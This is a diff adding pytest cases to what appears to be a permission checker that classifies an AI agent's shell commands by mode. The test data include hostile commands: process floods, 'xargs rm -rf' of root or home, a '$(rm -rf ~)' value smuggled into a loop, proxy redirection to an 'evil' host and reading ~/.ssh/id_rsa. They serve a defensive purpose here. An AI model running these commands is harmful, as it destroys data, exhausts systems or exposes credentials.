@@ -220,3 +220,162 @@ def test_code_runners_code_is_analysed(command):
 ])
 def test_code_runners_are_never_read_only(command):
     _never_allowed(command, ("default", "accept_edits", "dont_ask", "explore"))
+
+
+# --- 5. setuid / setgid modes, xxd's output after its input --------------------------------
+
+@pytest.mark.parametrize("command", [
+    "chmod 2755 f", "chmod 02755 f", "chmod 4755 f", "chmod 6755 f", "chmod g+s f", "chmod +s f",
+    "chmod u+s f", "chmod u+x,g+s f", "chmod u=rwxs f",
+    "install -m 4755 a bin/x", "install -m4755 a bin/x", "install --mode=2755 a bin/x",
+    "install -Dm 6755 a bin/x", "install -d -m 2775 dir",
+    "mkdir -m 2755 d", "mkdir -pm 2755 d", "mkdir --mode=u+s d", "mkdir -m g+s d",
+])
+def test_setid_modes_are_asked_even_in_accept_edits(command):
+    _never_allowed(command, ("default", "accept_edits", "dont_ask", "explore"))
+
+
+@pytest.mark.parametrize("command", [
+    "chmod 755 f", "chmod 0755 f", "chmod 1777 d", "install -m 755 a bin/x", "install -Dm644 a bin/x",
+    "mkdir -m 755 d", "mkdir -p -m 0700 d",
+])
+def test_plain_modes_stay_file_commands(command):
+    assert _decisions(command)["accept_edits"] == "allow", command
+
+
+@pytest.mark.parametrize("command", ["xxd -r dump -bad", "xxd -r dump -- -out", "xxd dump -o"])
+def test_xxd_output_named_like_an_option_is_a_write(command):
+    _never_allowed(command, ("default", "accept_edits", "dont_ask", "explore"))
+
+
+@pytest.mark.parametrize("command", ["xxd dump", "xxd -r -p dump", "xxd -l 16 -c 8 dump", "xxd -- -r"])
+def test_xxd_reads_stay_read_only(command):
+    assert set(_decisions(command).values()) == {"allow"}, command
+
+
+# --- 6. clock changes are not read-only; date itself is --------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "date -s '2020-01-01'", "date --set='2020-01-01'", "date --se 2020", "date --s=2020-01-01", "date -us 2020",
+    "date -s@0", "timedatectl set-time '2020-01-01'", "timedatectl set-ntp false",
+    "hwclock --set --date='2020-01-01'", "hwclock --systohc", "hwclock -s", "busybox date -s 2020",
+])
+def test_clock_changes_are_not_read_only(command):
+    _never_allowed(command, ("default", "accept_edits", "dont_ask", "explore"))
+
+
+@pytest.mark.parametrize("command", ["date", "date +%s", "date -u +%s", "date -d yesterday", "date -R"])
+def test_date_stays_read_only(command):
+    assert set(_decisions(command).values()) == {"allow"}, command
+
+
+# --- 7. proxy variables in either case ------------------------------------------------------
+
+@pytest.mark.parametrize("name", ["https_proxy", "HTTPS_PROXY", "http_proxy", "HTTP_PROXY", "all_proxy",
+                                  "ALL_PROXY", "no_proxy", "NO_PROXY"])
+@pytest.mark.parametrize("template", ["{n}=http://evil:8080 git status", "export {n}=http://evil:8080",
+                                      "{n}=http://evil:8080 curl https://x"])
+def test_proxy_variables_are_judged_alike_in_either_case(name, template):
+    command = template.format(n=name)
+    upper = _decisions(template.format(n=name.upper()))
+    assert _decisions(command) == upper, command
+    _never_allowed(command, ("default", "accept_edits", "dont_ask", "explore"))
+
+
+# --- 8. process floods whose loop is not literally endless ----------------------------------
+
+@pytest.mark.parametrize("command", [
+    "while sleep 0; do sh -c 'x' & done",
+    "while sleep 0.1; do \"$0\" & done",
+    "while echo; do sh & done",
+    "while true 1; do sh & done",
+    "while [ x ]; do sh & done",
+    "while test 1; do bash & done",
+    "while ((2)); do sh & done",
+    "until ! sleep 0; do sh & done",
+    "seq 1 1000000 | xargs -P0 -n1 sh -c 'sleep 9'",
+    "seq 1 1000000 | xargs -P 500 -n1 sh -c 'sleep 9'",
+    "seq 1e9 | xargs -P 0 -n1 sh",
+    "yes | xargs -P 100 sh -c x",
+    "yes | xargs --max-procs=64 -n1 sh",
+])
+def test_process_floods_are_denied(command):
+    _denied_everywhere(command)
+
+
+@pytest.mark.parametrize("command", [
+    "cat list | xargs -P 1000 -n1 sh -c 'x'",
+    "ls | xargs -P 200 -n1 gzip",
+])
+def test_many_procs_from_a_finite_input_are_not_allowed(command):
+    _never_allowed(command, ("default", "accept_edits", "dont_ask", "explore"))
+
+
+@pytest.mark.parametrize("command", [
+    "seq 1 10 | xargs -P 4 -n1 echo",
+    "find . -name '*.py' | xargs -P 4 -n 10 grep foo",
+    "while read l; do echo \"$l\" & done < f",
+    "while sleep 1; do date; done",
+    "while true; do date; sleep 1; done",
+    "seq 1 1000000 | wc -l",
+])
+def test_bounded_or_foreground_loops_stay_read_only(command):
+    assert set(_decisions(command).values()) == {"allow"}, command
+
+
+# --- 9. xargs rm -rf of paths from its input ---------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "echo /home/dev | sed 's/x/y/' | xargs rm -rf",
+    "echo /home/dev | tr -d x | xargs rm -rf",
+    "echo / | head -1 | xargs rm -rf",
+    "printf '%s' ~ | xargs rm -rf",
+    "printf '%s\\n' ~ | sed p | xargs rm -rf",
+    "echo / | xargs rm -rf",
+    "echo \"$HOME\" | xargs rm -rf",
+])
+def test_xargs_recursive_delete_of_home_or_root_is_denied(command):
+    _denied_everywhere(command)
+
+
+@pytest.mark.parametrize("command", [
+    "cat list.txt | xargs rm -rf",
+    "git ls-files -d | xargs rm -rf",
+    "echo build dist | sed 's/x/y/' | xargs rm -rf",
+    "find /tmp -name x | xargs rm -rf",
+    "ls | xargs rm -rf",
+    "curl -s http://127.0.0.1/list | xargs rm -r",
+])
+def test_xargs_recursive_delete_of_unknown_paths_asks_in_every_mode(command):
+    _never_allowed(command)
+
+
+@pytest.mark.parametrize("command", [
+    "find . -name __pycache__ | xargs rm -rf",
+    "find . -name __pycache__ -print0 | xargs -0 rm -rf",
+    "find src -type d -name build | xargs rm -rf",
+    "ls -d ~/x | xargs rm -rf",
+])
+def test_xargs_recursive_delete_below_the_project_is_as_before(command):
+    assert _decisions(command)["bypass"] == "allow", command
+
+
+# --- 10. loops with more values than the analysis binds ----------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "for d in a b c d e f g h ~; do rm -rf \"$d\"; done",
+    "for d in a b c d e f g h i j k /; do rm -rf \"$d\"; done",
+    "for x in 1 2 3 4 5 6 7 8 9 10 '$(rm -rf ~)'; do echo \"${x@P}\"; done",
+    "for d in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 \"$HOME\"; do rm -rf \"$d\"; done",
+])
+def test_a_late_loop_value_is_not_dropped(command):
+    _denied_everywhere(command)
+
+
+def test_a_long_read_only_loop_stays_read_only():
+    assert set(_decisions("for d in a b c d e f g h i j k l; do echo \"$d\"; done").values()) == {"allow"}
+
+
+def test_a_long_loop_reading_files_is_not_allowed():
+    _never_allowed("for f in 1 2 3 4 5 6 7 8 9 10 11 12 ~/.ssh/id_rsa; do cat \"$f\"; done",
+                   ("default", "accept_edits", "dont_ask", "explore"))
